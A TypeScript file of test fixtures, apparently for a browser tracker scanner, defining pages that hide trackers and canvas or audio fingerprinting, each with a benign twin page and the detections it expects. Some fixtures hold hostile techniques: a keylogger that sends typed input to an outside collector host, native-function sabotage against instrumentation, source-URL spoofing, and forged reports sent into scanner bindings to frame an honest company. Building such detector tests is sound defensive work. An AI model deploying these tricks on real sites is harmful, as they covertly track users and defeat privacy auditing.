import type { Behaviour } from './behaviour.ts';
import { canvasPrint } from './canvasPrint.ts';
import { from, html, inline, nothing, picture, scriptFile } from './markup.ts';
import { ADVERTS, COLLECTOR, LIBRARY, NUMBERS, PICTURES } from './thirdPartyHosts.ts';
import { TRACKER } from './consentPage.ts';

const append = (url: string): string =>
  `document.head.append(Object.assign(document.createElement('script'), { src: '${url}' }));`;

const HONEST = `https://${LIBRARY}/chart.js`;

const reading = (script: string) => ({ fingerprints: [{ kind: 'canvas', script }] }) as const;

/** Trackers that are not in the markup, and pages that try to deceive an observer. */
export const hiddenPages: readonly Behaviour[] = [
  {
    name: 'parting-words',
    description: 'Reports the visit to an advertiser at the moment at which the visitor leaves.',
    page: {
      html: html({
        title: 'Come back soon',
        head: inline(
          `addEventListener('pagehide', () => navigator.sendBeacon('https://bat.bing.com/action/0?ti=7&evt=pageHide', 'left'));`,
        ),
      }),
    },
    expects: { before: { trackers: ['bat.bing.com'] } },
  },
  {
    name: 'bundled-trackers',
    description: 'Has no third party in its markup: its own bundle loads them.',
    page: {
      html: html({ title: 'A clean page', head: from('/bundle.js') }),
      paths: { '/bundle.js': scriptFile(append(['https:/', TRACKER, 'bat.js'].join('/'))) },
    },
    expects: { before: { trackers: [TRACKER] } },
  },
  {
    name: 'own-counter',
    twinOf: 'bundled-trackers',
    description: 'Counts its visits on its own host.',
    page: {
      html: html({ title: 'A cleaner page', head: from('/bundle.js') }),
      paths: { '/bundle.js': scriptFile("navigator.sendBeacon('/count', location.pathname);"), '/count': nothing },
    },
    expects: {},
  },
  {
    name: 'cloaked-tracker',
    description: "Hides Adobe's analytics behind a name of its own.",
    page: {
      html: html({
        title: 'Only our own hosts',
        body: '<img src="https://metrics.behaviours.example/b/ss/sample/1/s1.gif?pageName=home" alt="">',
      }),
    },
    expects: { before: { ownNameTrackers: [{ name: 'Adobe Analytics', reach: 'alias' }] } },
  },
  {
    name: 'cdn-alias',
    twinOf: 'cloaked-tracker',
    description: 'Has its pictures at a content network behind a name of its own.',
    page: {
      html: html({
        title: 'Our pictures',
        body: '<img src="https://static.behaviours.example/boat.gif" alt="A boat">',
      }),
    },
    expects: {},
  },
  {
    name: 'framed-tracker',
    description: 'Has a frame of another company in it, which reads a canvas.',
    page: {
      html: html({
        title: 'News and a frame',
        body: `<iframe src="https://${ADVERTS}/frame.html" title="Advertisement"></iframe>`,
      }),
    },
    expects: {
      before: { others: [ADVERTS, COLLECTOR], ...reading(`https://${ADVERTS}/frame.html`) },
    },
  },
  {
    name: 'framed-picture',
    twinOf: 'framed-tracker',
    description: 'Has a frame of another company in it, which only shows a picture.',
    page: {
      html: html({
        title: 'A frame on the wall',
        body: `<iframe src="https://${PICTURES}/frame.html" title="A picture"></iframe>`,
      }),
    },
    expects: { before: { others: [PICTURES] } },
  },
  {
    name: 'waits-for-scrolling',
    description: 'Loads its trackers when somebody scrolls.',
    page: {
      html: html({
        title: 'Scroll down',
        body: `<div style="height: 4000px"></div>${inline(`addEventListener('scroll', () => { ${append(`https://${TRACKER}/bat.js`)} }, { once: true });`)}`,
      }),
    },
    expects: { before: { trackers: [TRACKER] } },
  },
  {
    name: 'waits-two-seconds',
    description: 'Loads its trackers two seconds after its page.',
    page: {
      html: html({
        title: 'Wait a little',
        body: inline(`setTimeout(() => { ${append(`https://${TRACKER}/bat.js`)} }, 2000);`),
      }),
    },
    expects: { before: { trackers: [TRACKER] } },
  },
  {
    name: 'lazy-pictures',
    twinOf: 'waits-for-scrolling',
    description: 'Loads its own pictures when somebody scrolls.',
    page: {
      html: html({
        title: 'A long wall of pictures',
        body: '<div style="height: 4000px"></div><img loading="lazy" src="/last.gif" alt="The last one">',
      }),
      paths: { '/last.gif': picture },
    },
    expects: {},
  },
  {
    name: 'false-name',
    description: 'Reads a canvas, and names the script of an honest company as the one that does it.',
    page: {
      html: html({
        title: 'It was not me',
        head: from(HONEST),
        body: inline(`(0, eval)(${JSON.stringify(`${canvasPrint('')}\n//# sourceURL=${HONEST}`)});`),
      }),
    },
    expects: { before: { others: [LIBRARY], ...reading('https://false-name.behaviours.example/') } },
  },
  {
    name: 'honest-chart',
    twinOf: 'false-name',
    description: 'Draws a chart with the script of an honest company.',
    page: {
      html: html({
        title: 'Bars',
        head: from(HONEST),
        body: `<canvas id="chart" width="300" height="100"></canvas>${inline("const pen = document.querySelector('#chart').getContext('2d'); [20, 60, 40].forEach((height, index) => drawBar(pen, index, height));")}`,
      }),
    },
    expects: { before: { others: [LIBRARY] } },
  },
  {
    name: 'overwritten-natives',
    description: 'Overwrites what scripts are made of before it reads a canvas and logs keys.',
    page: {
      html: html({
        title: 'Nothing is as it was',
        head: inline(`const real = { stringify: JSON.stringify, sum: Array.prototype.reduce, fetch: window.fetch.bind(window) };
Function.prototype.toString = () => 'function () { [native code] }';
JSON.stringify = () => '{}';
for (const name of ['push', 'map', 'filter', 'forEach', 'join', 'slice', 'includes', 'some', 'concat', 'indexOf'])
  Array.prototype[name] = () => { throw new Error('gone'); };
for (const name of ['slice', 'split', 'replace', 'startsWith', 'includes', 'indexOf', 'substring'])
  String.prototype[name] = () => '';
Object.defineProperty = (target) => target;
Object.keys = () => [];
Map.prototype.set = function () { return this; };
Map.prototype.get = () => undefined;
Set.prototype.add = function () { return this; };
Function.prototype.apply = () => undefined;
Function.prototype.call = () => undefined;
Reflect.apply = () => undefined;
window.Proxy = undefined;
Error.captureStackTrace = () => undefined;
Error.stackTraceLimit = 0;
Error.prepareStackTrace = () => '';
window.WeakMap = undefined;
window.fetch = () => Promise.reject(new Error('gone'));
window.console = { log() {}, error() {}, debug() {} };`),
        body: `<label>Name <input name="name" type="text"></label>${from(`https://${NUMBERS}/canvas.js`)}${inline(`document.addEventListener('input', ({ target }) => {
  new Image().src = 'https://${COLLECTOR}/typed?text=' + encodeURIComponent(target.value);
});`)}`,
      }),
    },
    expects: {
      before: {
        others: [NUMBERS, COLLECTOR],
        ...reading(`https://${NUMBERS}/canvas.js`),
        typedLeaks: [{ to: COLLECTOR, form: 'as it was typed' }],
      },
      // `fetch` is gone by the time the script reads the canvas.
      page: { consoleErrors: ['Error: gone'] },
    },
  },
  {
    name: 'forged-claims',
    description: 'Calls whatever it finds in its window, to have an honest company accused.',
    page: {
      html: html({
        title: 'Blame the others',
        head: from(HONEST),
        body: inline(`const frame = document.createElement('iframe');
document.body.append(frame);
const usual = new Set([...Object.getOwnPropertyNames(frame.contentWindow), 'drawBar', 'frame', 'usual', 'claims']);
frame.remove();
const claims = [
  { api: 'HTMLCanvasElement.toDataURL', script: '${HONEST}', count: 9, details: ['image/png 300x60', 'Sphinx of black quartz, judge my vow'] },
  { type: 'canvas', kind: 'canvas', script: '${HONEST}', url: '${HONEST}', stack: 'Error\\n    at read (${HONEST}:1:1)' },
];
for (const name of Object.getOwnPropertyNames(window).concat(Object.getOwnPropertySymbols(window)))
  if (!usual.has(name) && typeof window[name] === 'function')
    for (const claim of claims)
      for (const form of [claim, JSON.stringify(claim), [claim], JSON.stringify([claim])])
        try { window[name](form); } catch {}
for (const name of ['__record', '__candor', '__candorCall', 'candorBinding', '__playwright__binding__', 'report'])
  try { window[name]?.(JSON.stringify(claims[0])); } catch {}
for (const claim of claims) {
  console.debug(JSON.stringify(claim));
  console.log('candor', claim);
  window.postMessage(claim, '*');
  window.dispatchEvent(new CustomEvent('candor', { detail: claim }));
}`),
      }),
    },
    expects: { before: { others: [LIBRARY] } },
  },
  {
    name: 'borrowed-frame',
    description: 'Takes the interface for reading a canvas out of an empty frame.',
    page: {
      html: html({
        title: 'A window in the window',
        body: `${inline(`const frame = document.createElement('iframe');
document.body.append(frame);
HTMLCanvasElement.prototype.toDataURL = frame.contentWindow.HTMLCanvasElement.prototype.toDataURL;
CanvasRenderingContext2D.prototype.fillText = frame.contentWindow.CanvasRenderingContext2D.prototype.fillText;`)}${from(`https://${NUMBERS}/canvas.js`)}`,
      }),
    },
    expects: { before: { others: [NUMBERS, COLLECTOR], ...reading(`https://${NUMBERS}/canvas.js`) } },
  },
  {
    name: 'thread-tracker',
    description: 'Loads its trackers in a thread of its own.',
    page: {
      html: html({ title: 'Work in the attic', body: inline("new Worker('/attic.js');") }),
      paths: { '/attic.js': scriptFile(`fetch('https://${TRACKER}/action/0?ti=7', { mode: 'no-cors' });`) },
    },
    expects: { before: { trackers: [TRACKER] } },
  },
  {
    name: 'shared-tracker',
    description: 'Calls its trackers in a thread that its windows share.',
    page: {
      html: html({ title: 'Work in the yard', body: inline("new SharedWorker('/yard.js');") }),
      paths: { '/yard.js': scriptFile(`fetch('https://${TRACKER}/action/0?ti=8', { mode: 'no-cors' });`) },
    },
    expects: { before: { trackers: [TRACKER] } },
  },
  {
    name: 'offline-tracker',
    description: 'Calls its trackers in a service worker, which goes on working when the page is closed.',
    page: {
      html: html({
        title: 'Work at night',
        body: inline("navigator.serviceWorker.register('/night.js').catch(() => undefined);"),
      }),
      paths: { '/night.js': scriptFile(`fetch('https://${TRACKER}/action/0?ti=9', { mode: 'no-cors' });`) },
    },
    expects: {
      before: { trackers: [TRACKER] },
      page: { serviceWorkers: ['https://offline-tracker.behaviours.example/night.js'] },
    },
  },
  {
    name: 'shared-counter',
    twinOf: 'shared-tracker',
    description: 'Counts its windows in a thread that they share, and tells its own host.',
    page: {
      html: html({ title: 'Work in the hall', body: inline("new SharedWorker('/hall.js');") }),
      paths: { '/hall.js': scriptFile("fetch('/count');"), '/count': nothing },
    },
    expects: {},
  },
  {
    name: 'worker-canvas',
    description: 'Reads a canvas in a thread of its own.',
    page: {
      html: html({
        title: 'Work in the cellar',
        body: inline(`new Worker('/cellar.js').onmessage = ({ data }) => fetch('/visit?print=' + data);`),
      }),
      paths: {
        '/visit': nothing,
        '/cellar.js': scriptFile(`const canvas = new OffscreenCanvas(280, 60);
const pen = canvas.getContext('2d');
pen.fillStyle = '#069';
pen.font = '14px Arial';
pen.fillText('Sphinx of black quartz, judge my vow', 2, 15);
pen.fillStyle = '#f60';
pen.fillText('Sphinx of black quartz, judge my vow', 4, 45);
let sum = 0;
for (const value of pen.getImageData(0, 0, 280, 60).data) sum = (sum * 31 + value) | 0;
postMessage(sum);`),
      },
    },
    expects: { before: reading('https://worker-canvas.behaviours.example/cellar.js') },
  },
  {
    name: 'shared-canvas',
    description: 'Reads a canvas in a thread that its windows share, some time after it began.',
    page: {
      html: html({
        title: 'Work in the shed',
        body: inline("const { port } = new SharedWorker('/shed.js'); setTimeout(() => port.postMessage('now'), 2000);"),
      }),
      paths: {
        '/visit': nothing,
        '/shed.js': scriptFile(`const print = () => {
const canvas = new OffscreenCanvas(280, 60);
const pen = canvas.getContext('2d');
pen.fillStyle = '#069';
pen.font = '14px Arial';
pen.fillText('Sphinx of black quartz, judge my vow', 2, 15);
pen.fillStyle = '#f60';
pen.fillText('Sphinx of black quartz, judge my vow', 4, 45);
let sum = 0;
for (const value of pen.getImageData(0, 0, 280, 60).data) sum = (sum * 31 + value) | 0;
fetch('/visit?print=' + sum);
};
onconnect = ({ ports: [port] }) => { port.onmessage = print; };`),
      },
    },
    expects: { before: reading('https://shared-canvas.behaviours.example/shed.js') },
  },
  {
    name: 'worker-chart',
    twinOf: 'worker-canvas',
    description: 'Draws a chart in a thread of its own, and shows it.',
    page: {
      html: html({
        title: 'Bars from the cellar',
        body: `<img id="chart" alt="A chart">${inline(`const worker = new Worker(URL.createObjectURL(new Blob([\`const canvas = new OffscreenCanvas(300, 120);
const pen = canvas.getContext('2d');
for (const [index, word] of ['January', 'February', 'March'].entries()) {
  pen.fillStyle = '#069';
  pen.fillRect(100 * index, 10, 60, 80);
  pen.fillText(word, 100 * index, 110);
}
canvas.convertToBlob().then((picture) => postMessage(picture));\`])));
worker.onmessage = ({ data }) => { document.querySelector('#chart').src = URL.createObjectURL(data); };`)}`,
      }),
    },
    expects: {},
  },
  {
    name: 'worklet-tone',
    description: 'Renders a muted tone, and reads it in the audio thread.',
    page: {
      html: html({
        title: 'Silence',
        body: inline(`(async () => {
  const context = new OfflineAudioContext(1, 5000, 44100);
  await context.audioWorklet.addModule('/reader.js');
  const tone = context.createOscillator();
  const press = context.createDynamicsCompressor();
  const reader = new AudioWorkletNode(context, 'reader');
  reader.port.onmessage = ({ data }) => fetch('/visit?sum=' + data);
  tone.connect(press);
  press.connect(reader);
  reader.connect(context.destination);
  tone.start(0);
  await context.startRendering();
})();`),
      }),
      paths: {
        '/reader.js': scriptFile(`registerProcessor('reader', class extends AudioWorkletProcessor {
  process([[samples]]) { if (samples) this.port.postMessage(samples[0]); return true; }
});`),
        '/visit': nothing,
      },
    },
    expects: {
      before: { fingerprints: [{ kind: 'audio', script: 'https://worklet-tone.behaviours.example/' }] },
    },
  },
];
